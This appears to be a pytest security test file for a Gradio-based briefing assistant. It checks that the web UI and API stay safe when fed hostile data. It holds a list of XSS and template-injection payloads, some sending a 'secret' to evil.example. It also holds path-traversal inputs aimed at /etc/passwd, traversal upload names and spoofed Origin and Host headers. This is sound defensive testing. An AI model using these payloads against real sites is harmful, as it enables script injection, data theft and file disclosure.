"""Briefings, questions and file names that try to be more than text, and requests that no page of ours would send.

Nothing of it may run, become an element or be asked for elsewhere: the fixture fails on requests to other hosts and
on errors, `is_unharmed` on the rest.
"""

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import expect

from assistant import Assistant
from tests.assistant.page.conftest import Visit, served

pytestmark = pytest.mark.slow

# Each tries to set window.PWNED, to leave the page, to ask another host, to hide the page or to break our scripts.
ATTACKS = {
    "script": "<script>window.PWNED=1</script>",
    "image": '<img src=x onerror="window.PWNED=1">',
    "remote-image": "<img src=https://evil.example/?q=secret>",
    "svg-link": '<svg><a href="javascript:window.PWNED=1"><text y=20>Zander</text></a></svg>',
    "svg-load": "<svg onload=window.PWNED=1>",
    "link": "[prices](javascript:window.PWNED=1)",
    "markdown-image": "![prices](https://evil.example/x.png?q=secret)",
    "template": "${window.PWNED=1}",
    "hidden-template": "${Object.defineProperty(window,/PWNED/.source,{value:1})}",
    "handlebars": "{{constructor.constructor('window.PWNED=1')()}} {{#each this}}x{{/each}}",
    "form": '<form action="https://evil.example"><input name=getAttributeNames><button>Sign in</button></form>',
    "style": "<style>body{display:none!important}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "overlay": '<div style="position:fixed;inset:0;background:red" class=overlay>gone</div>',
    "clobber": "<a id=briefings name=briefings></a><form id=chat name=dom><input name=children></form>",
    "frame": '<iframe srcdoc="<script>parent.PWNED=1</script>"></iframe>',
    "base": '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    "attribute": '" autofocus onfocus="window.PWNED=1" x="',
    "line-ends": "\u2028window.PWNED=1\u2029</textarea></title><script>window.PWNED=1</script>",
    "override": "\u202eexe.yrassim\u202c \u2066isolated\u2069",
    "latex": "$$\\href{javascript:window.PWNED=1}{zander}$$ ```mermaid\ngraph TD; A-->B\n```",
}
QUESTION = "How many tonnes of zander did the fish market sell?"


def notes(folder: Path) -> None:
    """Write a briefing for each attack: in its text, its title, its tags and its file's name."""
    folder.mkdir()
    for number, (name, attack) in enumerate(ATTACKS.items(), 1):
        told = {
            "title": f"Market note {name} {attack}",
            "date": f"2026-05-{number:02}",
            "tags": ["market", attack[:60]],
            "takeaways": [f"The fish market sold {number} tonnes of zander {attack} on day {number}."],
            "narrative": f"The {name} note {attack} says that the fish market sold {number} tonnes of zander.",
        }
        (
            folder / f"{number:02}-{name} ${{window.PWNED=1}} '><img src=x onerror=alert(1).json".replace("/", "")
        ).write_text(json.dumps(told), encoding="utf-8")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    notes(folder / "notes")
    report = Assistant.open(folder / "library").add([folder / "notes"])
    assert (report.added, report.failures) == (len(ATTACKS), ())
    return folder / "library"


@pytest.fixture(scope="module")
def address(hostile: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with served(hostile, tmp_path_factory.mktemp("server") / "log.txt") as address:
        yield address


def is_unharmed(visit: Visit) -> bool:
    """Did nothing of a briefing run, become an element, or leave its place?"""
    return visit.page.evaluate(
        """() => {
            const ours = [...document.querySelectorAll("#header, #library, #adding, #chat, #reader")];
            const made = "script, img, iframe, form:not([aria-label]), style, link, base, object, embed, [onerror], "
                + "[onload], [onfocus], [name=getAttributeNames], .overlay, a[href^='javascript:'], [style*=fixed]";
            return window.PWNED === undefined
                && ours.length >= 4
                && ours.every((part) => part.querySelector(made) === null)
                && document.querySelectorAll("base[href*=evil], meta[http-equiv=refresh]").length === 0
                && getComputedStyle(document.body).display !== "none"
                && typeof window.briefings.mount === "function";
        }"""
    )


def test_a_hostile_briefing_is_listed_as_text(visit: Visit):
    expect(visit.page.locator("#library")).to_contain_text(f"Market note script {ATTACKS['script']}")
    assert is_unharmed(visit)


def test_hostile_sentences_are_quoted_as_text(visit: Visit):
    turn = visit.ask(QUESTION)

    expect(turn).to_have_attribute("data-status", "answered")
    expect(turn).to_contain_text("tonnes of zander")
    assert is_unharmed(visit)


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_asked_answered_and_read_as_text(visit: Visit, name: str):
    turn = visit.ask(f"How much zander does the {name} note {ATTACKS[name]} say that the market sold?")

    expect(turn.locator(".question")).to_contain_text("say that the market sold?")
    turn.locator(".chip, .nearest button").first.click()
    expect(visit.page.locator("#reader")).to_contain_text("tonnes of zander")
    assert is_unharmed(visit)


def test_an_override_of_direction_does_not_turn_what_stands_around_it(visit: Visit):
    turn = visit.ask("How much zander does the override note say that the market sold?")

    turn.locator(".chip, .nearest button").first.click()
    expect(visit.page.locator("#reader")).to_contain_text("tonnes of zander")

    # As in assistant.wording.plain: what cannot be seen is not shown, so that nothing is turned around.
    shown = visit.page.locator("body").inner_text()
    assert not {"\u202d", "\u202e", "\u2066", "\u2067", "\u2068"} & {*shown}


def test_what_is_suggested_is_text(visit: Visit):
    expect(visit.page.locator("#first-questions button").first).to_be_visible()

    assert is_unharmed(visit)


# ---- requests that no page of ours would send ------------------------------------------------------------------------


def post(address: str, path: str, body: Any, **headers: str) -> httpx.Response:
    return httpx.post(address + path, json=body, headers=headers, trust_env=False, timeout=60)


def streamed(address: str, function: int, data: list[Any], event: Any = None) -> str:
    """Call a function of the page past the page, and return all that it says."""
    body = {"data": data, "fn_index": function, "session_hash": "hand-made", "event_data": event}
    joined = post(address, "gradio_api/queue/join", body)
    if joined.status_code != 200:
        return joined.text
    url = f"{address}gradio_api/queue/data?session_hash=hand-made"
    return httpx.get(url, trust_env=False, timeout=60).text


def functions(address: str) -> list[dict[str, Any]]:
    return list(httpx.get(f"{address}config", trust_env=False, timeout=60).json()["dependencies"])


HAND_MADE = [
    None,
    5,
    "x",
    [],
    [[]],
    {},
    {"question": 5},
    {"question": "x" * 3_000_000},
    {"question": "Who?", "scope": {"since": "tomorrow"}},
    {"question": "Who?", "only": ["sure"]},
    {"briefing": "../../etc/passwd"},
    {"briefing": {"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}},
    {"briefings": ["/etc/passwd"]},
    {"words": ["x"]},
    {"job": "x" * 1_000, "files": ["/etc/passwd"]},
    {"job": "j", "files": ["/etc/passwd"], "samples": "maybe"},
    {"token": "../../etc", "conversation": "../../etc"},
    {"id": "../../../../etc/passwd", "turn": "../..", "format": "../../x"},
    {"v": 1e308, "page": -1, "k": 10**30},
    {"path": "/etc/passwd", "orig_name": "passwd", "meta": {"_type": "gradio.FileData"}},
]


def test_no_function_of_the_page_is_harmed_by_arguments_that_are_not_ours(address: str, hostile: Path):
    held = Assistant.open(hostile).briefings()
    told = []
    for function in functions(address):
        inputs = len(function["inputs"])
        told += [streamed(address, function["id"], [wanted] * inputs, wanted) for wanted in HAND_MADE]

    everything = "".join(told)
    assert "root:" not in everything  # /etc/passwd
    assert "Traceback" not in everything
    assert "site-packages" not in everything
    assert Assistant.open(hostile).briefings() == held
    assert list(hostile.rglob("passwd*")) == []
    assert httpx.get(address, trust_env=False, timeout=60).status_code == 200


def test_no_server_function_is_harmed_by_arguments_that_are_not_ours(address: str, hostile: Path):
    config = httpx.get(f"{address}config", trust_env=False, timeout=60).json()
    held = Assistant.open(hostile).briefings()
    calls = [(part["id"], name) for part in config["components"] for name in part["props"].get("server_fns") or ()]
    assert calls

    told = []
    for component, name in calls:
        for wanted in HAND_MADE:
            body = {"component_id": component, "fn_name": name, "data": wanted, "session_hash": "hand-made"}
            told.append(post(address, "gradio_api/component_server", body).text)

    everything = "".join(told)
    assert "root:" not in everything
    assert "Traceback" not in everything
    assert Assistant.open(hostile).briefings() == held


@pytest.mark.parametrize(
    "name", ["__init__", "constructor", "read_file", "postprocess", "move_resource_to_block_cache"]
)
def test_a_method_that_is_not_offered_cannot_be_called(address: str, name: str):
    config = httpx.get(f"{address}config", trust_env=False, timeout=60).json()

    for part in config["components"]:
        body = {"component_id": part["id"], "fn_name": name, "data": ["/etc/passwd"], "session_hash": "hand-made"}
        assert post(address, "gradio_api/component_server", body).status_code in (404, 422)


def test_an_upload_cannot_name_its_place(address: str, hostile: Path):
    sent = {"files": ("../../../../../../tmp/briefings-pwned.txt", b"Pwned.", "text/plain")}

    [kept] = httpx.post(f"{address}gradio_api/upload", files=sent, trust_env=False, timeout=60).json()

    assert not Path("/tmp/briefings-pwned.txt").exists()  # noqa: S108
    assert ".." not in Path(kept).parts
    assert Path(kept).name == "briefings-pwned.txt"


def test_an_upload_that_is_a_page_is_handed_back_as_a_download_only(address: str):
    sent = {"files": ("page.html", b"<script>alert(1)</script>", "text/html")}
    [kept] = httpx.post(f"{address}gradio_api/upload", files=sent, trust_env=False, timeout=60).json()

    back = httpx.get(f"{address}gradio_api/file={kept}", trust_env=False, timeout=60)

    assert back.status_code != 200 or back.headers["content-disposition"].startswith("attachment")
    assert back.headers["x-content-type-options"] == "nosniff"


def test_too_many_files_at_once_are_refused(address: str):
    sent = [("files", (f"{n}.txt", b"x", "text/plain")) for n in range(1_001)]

    assert httpx.post(f"{address}gradio_api/upload", files=sent, trust_env=False, timeout=60).status_code == 400


@pytest.mark.parametrize(
    "headers",
    [
        {"origin": "https://evil.example"},
        {"origin": "null"},
        {"origin": "http://localhost:3000"},
        {"host": "evil.example"},
        {"host": "127.0.0.1.evil.example"},
    ],
)
def test_another_site_is_answered_nothing(address: str, headers: dict[str, str]):
    response = post(address, "gradio_api/call/ask", {"data": [QUESTION, "", "", None, None, False]}, **headers)

    assert response.status_code in (400, 403)


def test_a_page_cannot_be_framed_and_says_nothing_of_where_one_came_from(address: str):
    headers = httpx.get(address, trust_env=False, timeout=60).headers

    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert "default-src 'self'" in headers["content-security-policy"]
    assert headers["referrer-policy"] == "no-referrer"


# ---- too much --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("size", [2_001, 3_000_000])
def test_too_long_a_question_is_answered_with_the_limit(address: str, size: int):
    body = {"data": ["x" * size, "", "", None, None, False]}

    assert "at most 2,000" in post(address, "gradio_api/run/ask", body).text


def test_five_megabytes_that_are_no_upload_are_not_read(address: str):
    assert post(address, "gradio_api/run/ask", {"data": ["x" * 5_000_000]}).status_code == 413


def test_a_file_that_is_uploaded_by_hand_is_added_as_text(tmp_path: Path, visit_to: Callable[[Path], Visit]):
    """Also where the library is empty before: its own server, so that the others keep theirs as it is."""
    Assistant.open(tmp_path / "library")
    notes(tmp_path / "notes")
    files = sorted((tmp_path / "notes").iterdir())[:3]
    page = visit_to(tmp_path / "library")

    page.page.locator("#library-pane input[type=file]").first.set_input_files(files)

    expect(page.page.locator("#library")).to_contain_text(f"Market note script {ATTACKS['script']}")
    assert is_unharmed(page)
